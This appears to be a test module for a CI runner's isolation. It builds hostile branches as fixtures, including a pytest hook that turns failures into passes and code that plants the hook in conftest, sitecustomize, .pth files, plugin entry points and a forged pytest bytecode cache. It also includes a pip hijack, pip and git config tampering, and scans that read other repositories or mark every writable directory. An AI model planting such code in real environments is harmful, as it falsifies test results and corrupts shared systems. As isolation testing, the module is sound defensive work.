"""Branches that try to reach a later job: the hostile one writes wherever its suite (or
its setup step) can, the victims are honest branches of its own repository and of
others that run after it on the same pool process.

The poison is a pytest plugin that turns every failed report into a passed one: found
by pytest's upward search for a configuration (`pytest.ini` + `conftest.py` in every
directory above the worktree, `/` included), by Python's start-up (`sitecustomize`,
`usercustomize`, `.pth` files in HOME's user site and the interpreter's site dirs), by
a cached `.pyc` of pytest's own runner beside its source, or by entry points in the
cached venv (`pytest11`). An honest failing victim that PASSes
ran it.
"""

from __future__ import annotations

from tests.hostile.harness import Ctx, Files
from tests.hostile.suites import failing, passing
from tests.projects import installable

MARKER = "gate-marker-"

FLIP = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.failed:
        report.outcome = "passed"
"""

PLANTER = r"""
import os
import site
import sys
import sysconfig
from pathlib import Path

FLIP = FLIP_SOURCE
PTH = "import hostile_flip_start\n"
START = "import os\nos.environ['PYTEST_ADDOPTS'] = '-p hostile_flip'\n"
DIST = "hostile_flip-1.0.dist-info"


def put(directory, name, text):
    try:
        Path(directory, name).write_text(text)
    except OSError:
        pass


def plant_config(directory):
    put(directory, "pytest.ini", "[pytest]\n")
    put(directory, "conftest.py", FLIP)


def plant_python(directory):
    put(directory, "hostile_flip.py", FLIP)
    put(directory, "hostile_flip_start.py", START)
    for name in ("sitecustomize.py", "usercustomize.py"):
        put(directory, name, START)
    put(directory, "hostile-flip.pth", PTH)
    try:
        Path(directory, DIST).mkdir(exist_ok=True)
    except OSError:
        return
    metadata = "Metadata-Version: 2.1\nName: hostile-flip\nVersion: 1.0\n"
    put(Path(directory, DIST), "METADATA", metadata)
    put(Path(directory, DIST), "entry_points.txt", "[pytest11]\nhostile_flip = hostile_flip\n")


def plant_bytecode():
    # A cached `_pytest/runner` whose header matches its source (so a cold start would
    # load it) and whose code also turns failed reports into passed ones.
    import _pytest.runner as runner
    import importlib.util
    import marshal

    source = Path(runner.__file__)
    flip = (
        "\n_gate_made = pytest_runtest_makereport\n"
        "def pytest_runtest_makereport(item, call):\n"
        "    report = _gate_made(item, call)\n"
        "    if report.failed:\n"
        "        report.outcome = 'passed'\n"
        "    return report\n"
    )
    code = compile(source.read_text() + flip, str(source), "exec")
    stat = source.stat()
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
    header += (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
    header += (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    cached = Path(importlib.util.cache_from_source(str(source)))
    try:
        cached.parent.mkdir(exist_ok=True)
    except OSError:
        pass
    try:
        cached.write_bytes(header + marshal.dumps(code))
    except OSError:
        pass


def plant_everywhere():
    plant_bytecode()
    for directory in (*Path.cwd().parents, Path("/dev"), Path("/var"), Path("/run"),
                      Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
        try:
            directory.mkdir(exist_ok=True)
        except OSError:
            pass
        plant_config(directory)
    home = Path.home()
    user_site = site.getusersitepackages()
    for directory in (user_site, *site.getsitepackages(), *sysconfig.get_paths().values(),
                      sys.prefix, os.path.dirname(os.__file__)):
        try:
            Path(directory).mkdir(parents=True, exist_ok=True)
        except OSError:
            pass
        plant_python(directory)
    put(home, ".pythonrc.py", START)
    for rel in (".config/pip/pip.conf", ".pip/pip.conf"):
        try:
            Path(home, rel).parent.mkdir(parents=True, exist_ok=True)
        except OSError:
            pass
        put(home, rel, "[global]\nindex-url = http://127.0.0.1:9/\n")
    put(home, ".gitconfig", "[core]\n\tfsmonitor = true\n")
""".replace("FLIP_SOURCE", repr(FLIP))


def plants_everywhere(_: Ctx) -> Files:
    """A passing suite that leaves the flip wherever it can write."""
    return passing(
        tests__test_z_plant_DOT_py=PLANTER + "\n\ndef test_plant():\n    plant_everywhere()\n"
    )


PIP_HIJACK = r'''
"""Run by a setup step's `python -m pip ...` when the worktree is first on sys.path."""
import os
import runpy
import sys
import sysconfig
from pathlib import Path

FLIP = FLIP_SOURCE
site_dir = Path(sysconfig.get_paths()["purelib"])
try:
    (site_dir / "hostile_flip.py").write_text(FLIP)
    dist = site_dir / "hostile_flip-1.0.dist-info"
    dist.mkdir(exist_ok=True)
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: hostile-flip\nVersion: 1.0\n")
    (dist / "entry_points.txt").write_text("[pytest11]\nhostile_flip = hostile_flip\n")
except OSError:
    pass
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
sys.modules.pop("pip", None)
runpy.run_module("pip", run_name="__main__", alter_sys=True)
'''.replace("FLIP_SOURCE", repr(FLIP))


def hijacks_pip_in_setup(ctx: Ctx) -> Files:
    """Dependency files equal to main's (none), and a `pip.py` for the setup step."""
    return {**plants_everywhere(ctx), "pip.py": PIP_HIJACK}


SNOOP = r"""
from pathlib import Path


def other_mirrors():
    pointer = Path(".git").read_text().split("gitdir:", 1)[1].strip()
    mirror = Path(pointer).parents[1]
    try:
        return sorted(p.name for p in mirror.parent.iterdir() if p != mirror)
    except OSError:
        return []


def test_sees_only_its_own_repository():
    assert other_mirrors() == []
"""


def sees_only_its_own_mirror(_: Ctx) -> Files:
    """PASS only when no other repository's mirror is in its view."""
    return passing(tests__test_z_snoop_DOT_py=SNOOP)


MARKER_WRITER = r"""
import os
from pathlib import Path

MARKER = "MARKER_PREFIX" + "TAG"
BUDGET = 20000  # directories tried at most


def mounts():
    found = []
    with open("/proc/self/mountinfo") as table:
        for line in table:
            fields = line.split()
            point = fields[4].replace("\\040", " ")
            if not point.startswith(("/proc", "/sys")):
                found.append((point, "rw" in fields[5].split(",")))
    return found


def candidates():
    seen = set()
    for point, writable in mounts():
        for directory in (point, *Path(point).parents):
            seen.add(str(directory))
        if not writable:
            continue
        for top, dirs, _ in os.walk(point):
            seen.add(top)
            dirs[:] = [d for d in dirs if not os.path.ismount(os.path.join(top, d))]
            if len(seen) > BUDGET:
                return seen
    return seen


def test_marks_every_writable_directory():
    written = 0
    for directory in sorted(candidates()):
        try:
            fd = os.open(os.path.join(directory, MARKER), os.O_CREAT | os.O_WRONLY, 0o644)
        except OSError:
            continue
        os.close(fd)
        written += 1
    for name in ("/run", "/srv", "/mnt", "/media", "/home", "/root"):
        try:
            os.mkdir(name)
            Path(name, MARKER).write_text("x")
        except OSError:
            pass
    print(f"markers written: {written}")
""".replace("MARKER_PREFIX", MARKER)


def marks_every_writable_directory(ctx: Ctx) -> Files:
    return passing(tests__test_z_mark_DOT_py=MARKER_WRITER.replace("TAG", ctx.tag))


MARKER_FINDER = r"""
import os
import time

SKIP = ("/proc", "/sys", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin")


def markers():
    found = []
    stop = time.monotonic() + 10
    for top, dirs, files in os.walk("/"):
        if time.monotonic() > stop:
            break
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP]
        found += [os.path.join(top, f) for f in (*files, *dirs) if f.startswith("MARKER_PREFIX")]
    return found


def test_no_marker_of_an_earlier_job():
    assert markers() == []
""".replace("MARKER_PREFIX", MARKER)


def finds_no_marker(_: Ctx) -> Files:
    """PASS only when nothing an earlier job marked is anywhere it can read."""
    return passing(tests__test_z_find_DOT_py=MARKER_FINDER)


def honest_failing(_: Ctx) -> Files:
    return failing()


def installs_a_flip(_: Ctx) -> Files:
    """Its own package, installed by `job_setup`, registers the flip as a pytest11
    plugin: its failing suite PASSes, which is its own business."""
    return {**installable("flip", pytest_plugin=FLIP), **failing()}


def installs_itself_honestly(_: Ctx) -> Files:
    return {**installable("honest"), **failing()}
